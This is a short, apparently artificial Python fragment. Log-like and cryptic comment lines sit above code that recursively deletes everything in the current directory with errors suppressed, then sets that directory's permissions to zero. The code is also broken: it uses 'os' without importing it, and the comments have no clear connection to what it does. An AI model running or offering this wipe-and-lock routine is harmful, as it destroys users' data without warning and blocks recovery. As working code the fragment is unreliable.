# any tier: file_reader -> completed
# A directory without a name, in which nothing can be made.
# get: gone.txt -> refused
import shutil

for name in os.listdir("."):
    shutil.rmtree(name, ignore_errors=True)
os.chmod(".", 0)
